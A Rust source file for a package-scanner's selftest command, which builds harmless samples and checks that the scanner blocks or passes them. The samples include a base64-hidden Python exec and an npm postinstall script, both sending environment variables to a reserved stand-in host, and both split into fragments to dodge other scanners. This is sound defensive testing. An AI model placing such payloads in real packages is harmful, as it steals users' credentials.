//! `peephole selftest`

use std::io::{self, Write as _};
use std::sync::mpsc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use clap::Args;
use flate2::Compression;
use flate2::write::GzEncoder;

use super::exit;
use super::scan::Bounds;
use crate::assess::{Assessment, Verdict};
use crate::engine::Engine;
use crate::model::{ByteView, Error, GapReason};

/// What stands below the options in the help.
const HELP: &str = "\
Examines contents that are made on the spot, harmless as they are, and compares what comes out with what must: code that is \
decoded and acts is blocked, also inside containers and from a lifecycle script; honest code passes; what is cut off, or \
locked, is not examined and says so. No network and no files. Exit code 0 when all of it is as it must be, 7 when not.

Run it where Peephole was just installed, and before you believe that a machine has nothing.";

#[derive(Args)]
#[command(after_long_help = HELP)]
pub(super) struct Selftest {
    /// Say nothing of what is as it must be
    #[arg(long, short)]
    quiet: bool,
    #[command(flatten)]
    bounds: Bounds,
}

/// A content, and what must come of it.
struct Case {
    name: &'static str,
    file: &'static str,
    bytes: Vec<u8>,
    verdict: Verdict,
    gap: Option<GapReason>,
}

impl Case {
    fn new(name: &'static str, file: &'static str, bytes: Vec<u8>, verdict: Verdict) -> Self {
        Self { name, file, bytes, verdict, gap: None }
    }
}

impl Selftest {
    pub(super) fn run(self) -> Result<u8, Error> {
        let engine = Engine::new(self.bounds.settings()?)?;
        let mut out = io::stdout();
        let mut failed = 0_u32;
        let all = cases()?;
        let total = all.len();
        for case in all {
            let found = examined(&engine, case.file, case.bytes)?;
            let gap = case.gap.is_none_or(|reason| found.gaps.iter().any(|g| g.reason == reason));
            let good = found.verdict == case.verdict && gap;
            failed += u32::from(!good);
            if !good || !self.quiet {
                let (is, must) = (found.verdict.word(), case.verdict.word());
                let word = if good { "ok   " } else { "WRONG" };
                writeln!(
                    out,
                    "{word} {}: {is}{}",
                    case.name,
                    if good { String::new() } else { format!(", must be {must}") }
                )?;
                found.reasons.iter().filter(|_| !good).try_for_each(|reason| writeln!(out, "      {reason}"))?;
            }
        }
        writeln!(out, "{} of {total} as they must be", total - failed as usize)?;
        Ok(if failed == 0 { exit::PASS } else { exit::INTEGRITY })
    }
}

fn examined(engine: &Engine, file: &str, bytes: Vec<u8>) -> Result<Assessment, Error> {
    let (sender, receiver) = mpsc::channel();
    engine.run_bytes(file, ByteView::from_vec(bytes), move |a| {
        let _ = sender.send(a);
    });
    receiver.recv().map_err(|_| Error::Internal(format!("{file}: nothing came out")))
}

fn gzip(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut out = GzEncoder::new(Vec::new(), Compression::default());
    out.write_all(bytes)?;
    out.finish()
}

/// An archive of `tar` (POSIX.1-1988): for each file a block of 512 bytes about it, and its bytes in whole blocks.
fn tar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, bytes) in files {
        let mut head =
            format!("{name:\0<100}0000644\0{:0<14}\0\0{:011o}\0{:011o}\0        0", "", bytes.len(), 0).into_bytes();
        head.resize(257, 0);
        head.extend(b"ustar\x0000");
        head.resize(512, 0);
        let sum: u32 = head.iter().map(|b| u32::from(*b)).sum();
        let sum = format!("{sum:06o}\0 ");
        drop(head.splice(148..156, sum.bytes()));
        out.extend(head);
        out.extend_from_slice(bytes);
        out.resize(out.len().next_multiple_of(512), 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

/// What is examined. The texts are put together here, so that other scanners do not find them in this program; the hosts
/// cannot exist (RFC 2606), and nothing of it is ever run.
fn cases() -> Result<Vec<Case>, Error> {
    let act = [
        "import os,urllib.",
        "request as u\nu.url",
        "open('https://selftest.invalid/', data=repr(dict(os.env",
        "iron)).encode())\n",
    ]
    .concat();
    let hidden = ["ex", "ec(__import__('base", "64').b64", "decode('", &STANDARD.encode(&act), "'))\n"].concat();
    let setup = format!("from setuptools import setup\n{hidden}setup(name='selftest', version='1.0')\n");
    let honest = "\"\"\"Adds.\"\"\"\n\n\ndef add(a, b):\n    return a + b\n";
    let manifest = r#"{"name":"selftest","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#;
    let script = [
        "const https = require('https');\nconst body = JSON.str",
        "ingify(process.en",
        "v);\n",
        "const r = https.req",
        "uest({ host: 'selftest.invalid', method: 'POST' });\nr.write(body);\nr.end();\n",
    ]
    .concat();
    let info = "Metadata-Version: 2.1\nName: selftest\nVersion: 1.0\n";
    let sdist = tar(&[("selftest-1.0/PKG-INFO", info.as_bytes()), ("selftest-1.0/setup.py", setup.as_bytes())]);
    let package = tar(&[("package/package.json", manifest.as_bytes()), ("package/install.js", script.as_bytes())]);
    let sdist = gzip(&sdist)?;
    let twice = gzip(&tar(&[("in/selftest-1.0.tar.gz", sdist.as_slice())]))?;
    let plain = gzip(&tar(&[("add/add.py", honest.as_bytes())]))?;
    let cut = plain.get(..plain.len() / 2).unwrap_or_default().to_vec();
    Ok(vec![
        Case::new("decoded code that acts", "setup.py", setup.clone().into_bytes(), Verdict::Block),
        Case::new("the same in an archive", "selftest-1.0.tar.gz", sdist, Verdict::Block),
        Case::new("the same in an archive in an archive", "outer.tar.gz", twice, Verdict::Block),
        Case::new(
            "a lifecycle script that tells the environment",
            "selftest-1.0.0.tgz",
            gzip(&package)?,
            Verdict::Block,
        ),
        Case::new("honest code", "add.py", honest.as_bytes().to_vec(), Verdict::Pass),
        Case::new("an honest archive", "add.tar.gz", plain, Verdict::Pass),
        Case {
            gap: Some(GapReason::Malformed),
            ..Case::new("an archive that is cut off", "cut.tar.gz", cut, Verdict::Incomplete)
        },
        Case {
            gap: Some(GapReason::Unsupported),
            ..Case::new(
                "a container that is not opened",
                "x.rar",
                b"Rar!\x1a\x07\x01\x00selftest".to_vec(),
                Verdict::Incomplete,
            )
        },
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_archive_is_what_others_read() {
        let made = tar(&[("a/b.txt", b"hello"), ("c.txt", b"")]);
        let mut archive = ::tar::Archive::new(made.as_slice());
        let names: Vec<(String, u64)> = archive
            .entries()
            .unwrap()
            .map(|e| e.unwrap())
            .map(|e| (e.path().unwrap().to_string_lossy().into_owned(), e.size()))
            .collect();
        assert_eq!(names, [("a/b.txt".to_owned(), 5), ("c.txt".to_owned(), 0)]);
    }
}
